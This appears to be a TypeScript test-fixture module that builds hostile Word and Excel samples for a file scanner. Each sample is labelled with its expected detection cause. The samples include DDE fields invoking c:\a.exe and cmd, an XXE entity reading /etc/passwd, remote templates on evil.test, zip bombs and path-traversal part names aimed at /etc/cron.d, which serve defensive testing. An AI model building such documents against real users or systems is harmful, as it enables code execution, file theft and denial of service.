import { office, png, relationships, zip } from './file-makers.js';
import { type HostileSample, latin1, license, oldOffice } from './sample.js';

/** Office documents that bring something along. */
export function officeDocuments(): HostileSample[] {
  const word = (
    what: string,
    cause: string,
    ...extra: Parameters<typeof office> extends [unknown, ...infer Rest] ? Rest : never
  ) => ({
    what,
    name: 'a.docx',
    content: office('docx', ...extra),
    cause,
  });
  const links = (what: string, type: string, target: string, outside = 'External') =>
    word(what, 'officeOutside', [
      { name: 'word/_rels/settings.xml.rels', content: relationships([{ type, target, outside }]) },
    ]);
  const macroTypes = [
    {
      name: '[Content_Types].xml',
      content:
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
  ];
  return [
    word('a Word document with macros', 'officeMacros', [
      { name: 'word/vbaProject.bin', content: oldOffice },
    ]),
    word('a macro document, renamed', 'officeMacros', macroTypes),
    word('a Word document with macros under another name', 'officeMacros', [
      {
        name: 'word/_rels/document.xml.rels',
        content:
          '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/></Relationships>',
      },
    ]),
    {
      ...word('an Excel workbook with old macros', 'officeMacros'),
      name: 'a.xlsx',
      content: office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
    },
    word('a Word document with an old document inside', 'officeEmbedded', [
      { name: 'word/embeddings/oleObject1.bin', content: oldOffice },
    ]),
    word('a Word document with an ActiveX control', 'officeEmbedded', [
      { name: 'word/activeX/activeX1.xml', content: '<x/>' },
    ]),
    word('a Word document with a PDF inside', 'officeEmbedded', [
      { name: 'word/embeddings/a.bin', content: license() },
    ]),
    word('a Word document with an archive inside', 'archive', [
      { name: 'word/embeddings/a.bin', content: zip([{ name: 'a', content: 'x' }]) },
    ]),
    links('a Word document with a template from elsewhere', 'attachedTemplate', 'https://evil.test/a.dotm'),
    links(
      'a Word document with a template on a network drive',
      'attachedTemplate',
      'file://server/share/a.dotm',
    ),
    links('a Word document with a picture from elsewhere', 'image', 'https://evil.test/a.png'),
    links('a Word document with an object from elsewhere', 'oleObject', 'mhtml:https://evil.test/a'),
    links(
      'a Word document that writes External in another way',
      'image',
      'https://evil.test/',
      '&#69;xternal',
    ),
    links('a Word document with a link that runs a script', 'hyperlink', 'javascript:alert(1)'),
    word(
      'a Word document that asks another program',
      'officeDataLink',
      [],
      '<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\a.exe</w:instrText>',
    ),
    word(
      'a Word document with a simple field that asks another program',
      'officeDataLink',
      [],
      '<w:fldSimple w:instr="DDE excel a"/>',
    ),
    {
      ...word('an Excel workbook that asks another program', 'officeDataLink'),
      name: 'a.xlsx',
      content: office('xlsx', [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ]),
    },
    word(
      'a Word document with entities',
      'officeEntities',
      [],
      '&a;',
      '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    ),
    word('a Word document in an encoding that hides entities', 'officeDamaged', [
      {
        name: 'word/document.xml',
        content: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY a "b">]><a/>', 'utf16le'),
      },
    ]),
    word('a Word document in UTF-7', 'officeDamaged', [
      { name: 'word/document.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' },
    ]),
    word('a Word document with a picture that bursts', 'pictureTooLarge', [
      { name: 'word/media/a.png', content: png({ width: 60_000, height: 60_000 }) },
    ]),
    word('a Word document with a script', 'hiddenContent', [
      { name: 'word/media/a.svg', content: '<svg><script>1</script></svg>' },
    ]),
    { ...word('half a Word document', 'officeDamaged'), content: office('docx').subarray(0, -30) },
    {
      ...word('a Word document with something behind it', 'officeDamaged'),
      content: Buffer.concat([office('docx'), latin1('more')]),
    },
    { ...word('a Word document that calls itself a workbook', 'typeMismatch'), name: 'a.xlsx' },
    {
      what: 'an OpenDocument text',
      name: 'a.odt',
      content: zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }]),
      cause: 'archive',
    },
  ];
}

/** Office documents that are packed to do harm. */
export function hostileArchives(): HostileSample[] {
  const word = (what: string, cause: string, content: Buffer) => ({ what, name: 'a.docx', content, cause });
  const bomb = Buffer.alloc(40_000_000);
  return [
    word('a document that bursts', 'unpackedSize', office('docx', [{ name: 'word/a.bin', content: bomb }])),
    word(
      'a document that bursts and lies about it',
      'officeDamaged',
      office('docx', [{ name: 'word/a.bin', content: bomb, saysBytes: 10 }]),
    ),
    word(
      'a document that bursts inside a document',
      'unpackedSize',
      office('docx', [
        { name: 'word/embeddings/a.xlsx', content: office('xlsx', [{ name: 'a', content: bomb }]) },
      ]),
    ),
    word(
      'a document of ten thousand parts',
      'tooManyParts',
      office(
        'docx',
        Array.from({ length: 10_000 }, (_, place) => ({ name: `word/${place}`, content: '' })),
      ),
    ),
    word(
      'a document whose part climbs out',
      'partNames',
      office('docx', [{ name: '../../etc/cron.d/a', content: 'x' }]),
    ),
    word(
      'a document whose part climbs out the Windows way',
      'partNames',
      office('docx', [{ name: '..\\..\\a.exe', content: 'x' }]),
    ),
    word(
      'a document whose part has a path from the root',
      'partNames',
      office('docx', [{ name: '/etc/passwd', content: 'x' }]),
    ),
    word(
      'a document with a link to another file',
      'partNames',
      office('docx', [{ name: 'word/a', content: '/etc/passwd', mode: 0o120777 }]),
    ),
    word(
      'a document with two parts of one name',
      'partNames',
      office('docx', [
        { name: 'word/a', content: '1' },
        { name: 'WORD/A', content: '2' },
      ]),
    ),
    word(
      'a document with a part of two names',
      'partNames',
      office('docx', [{ name: 'word/a', content: '1', saysName: 'word/b' }]),
    ),
    word(
      'a document with a locked part',
      'officeLocked',
      office('docx', [{ name: 'word/a', content: '1', encrypted: true }]),
    ),
    word(
      'a document that hides a part from its list',
      'officeDamaged',
      zip(
        [
          { name: '[Content_Types].xml', content: '<Types/>' },
          { name: 'b', content: 'b' },
        ],
        { saysParts: 1 },
      ),
    ),
    word(
      'a document behind something else',
      'officeDamaged',
      Buffer.concat([latin1('PK\x03\x04decoy'), office('docx')]),
    ),
  ];
}
